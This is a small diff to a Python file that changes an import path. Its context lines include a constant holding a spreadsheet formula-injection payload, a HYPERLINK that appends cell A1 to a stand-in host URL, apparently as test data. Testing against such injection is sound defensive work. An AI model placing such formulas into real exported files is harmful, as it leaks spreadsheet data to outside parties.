@@ -6,7 +6,7 @@ proof: is not a student id
 
 import shutil
 
-from tpdl import paths
+from tpdl.core import paths
 
 NAME = '=HYPERLINK("http://example.invalid/?"&A1,"open me")'
 
